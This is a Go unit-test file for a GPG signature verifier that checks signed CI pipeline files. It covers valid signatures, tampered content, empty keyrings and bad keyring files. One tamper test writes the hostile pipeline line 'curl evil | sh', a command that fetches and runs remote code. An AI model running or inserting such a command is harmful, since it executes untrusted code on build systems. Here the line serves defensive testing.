package gpg

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/armor"
)

// signedFixture generates a key pair, an armored public keyring, and a
// detached armored signature over the given content.
func signedFixture(t *testing.T, content []byte) (keyringPath, filePath, sigPath string) {
	t.Helper()
	dir := t.TempDir()

	entity, err := openpgp.NewEntity("release bot", "", "bot@example.com", nil)
	if err != nil {
		t.Fatalf("Failed to generate key: %v", err)
	}

	// Export public key armored
	var pub bytes.Buffer
	armorWriter, err := armor.Encode(&pub, openpgp.PublicKeyType, nil)
	if err != nil {
		t.Fatalf("Failed to create armor writer: %v", err)
	}
	if err := entity.Serialize(armorWriter); err != nil {
		t.Fatalf("Failed to serialize public key: %v", err)
	}
	if err := armorWriter.Close(); err != nil {
		t.Fatalf("Failed to close armor writer: %v", err)
	}

	keyringPath = filepath.Join(dir, "keyring.asc")
	if err := os.WriteFile(keyringPath, pub.Bytes(), 0600); err != nil {
		t.Fatal(err)
	}

	filePath = filepath.Join(dir, "ci.yml")
	if err := os.WriteFile(filePath, content, 0600); err != nil {
		t.Fatal(err)
	}

	var sig bytes.Buffer
	if err := openpgp.ArmoredDetachSign(&sig, entity, bytes.NewReader(content), nil); err != nil {
		t.Fatalf("Failed to sign: %v", err)
	}
	sigPath = filepath.Join(dir, "ci.yml.asc")
	if err := os.WriteFile(sigPath, sig.Bytes(), 0600); err != nil {
		t.Fatal(err)
	}

	return keyringPath, filePath, sigPath
}

func TestVerifier_VerifyFile_ValidSignature(t *testing.T) {
	keyringPath, filePath, sigPath := signedFixture(t, []byte("test:\n  script: [pytest]\n"))

	v := NewVerifier()
	if err := v.ImportKeyringFile(keyringPath); err != nil {
		t.Fatalf("ImportKeyringFile() error = %v", err)
	}
	if v.KeyringSize() != 1 {
		t.Errorf("KeyringSize() = %d, want 1", v.KeyringSize())
	}

	fingerprint, err := v.VerifyFile(filePath, sigPath)
	if err != nil {
		t.Fatalf("VerifyFile() error = %v", err)
	}
	if fingerprint == "" {
		t.Error("VerifyFile() returned empty fingerprint")
	}
}

func TestVerifier_VerifyFile_TamperedContent(t *testing.T) {
	keyringPath, filePath, sigPath := signedFixture(t, []byte("test:\n  script: [pytest]\n"))

	v := NewVerifier()
	if err := v.ImportKeyringFile(keyringPath); err != nil {
		t.Fatalf("ImportKeyringFile() error = %v", err)
	}

	// Tamper with the pipeline after signing
	if err := os.WriteFile(filePath, []byte("test:\n  script: [curl evil | sh]\n"), 0600); err != nil {
		t.Fatal(err)
	}

	if _, err := v.VerifyFile(filePath, sigPath); err == nil {
		t.Error("VerifyFile() should fail for tampered content")
	}
}

func TestVerifier_VerifyFile_EmptyKeyring(t *testing.T) {
	_, filePath, sigPath := signedFixture(t, []byte("x"))

	v := NewVerifier()
	_, err := v.VerifyFile(filePath, sigPath)
	if err == nil {
		t.Fatal("VerifyFile() should fail with empty keyring")
	}
	if !strings.Contains(err.Error(), "no GPG keys imported") {
		t.Errorf("VerifyFile() error = %v, want keyring hint", err)
	}
}

func TestVerifier_ImportKeyringFile_Missing(t *testing.T) {
	v := NewVerifier()
	if err := v.ImportKeyringFile("/nonexistent/keyring.asc"); err == nil {
		t.Error("ImportKeyringFile() should fail for missing file")
	}
}

func TestVerifier_ImportKeyringFile_Invalid(t *testing.T) {
	dir := t.TempDir()
	keyringPath := filepath.Join(dir, "bad.asc")
	if err := os.WriteFile(keyringPath, []byte("not a keyring"), 0600); err != nil {
		t.Fatal(err)
	}

	v := NewVerifier()
	if err := v.ImportKeyringFile(keyringPath); err == nil {
		t.Error("ImportKeyringFile() should fail for invalid keyring")
	}
}
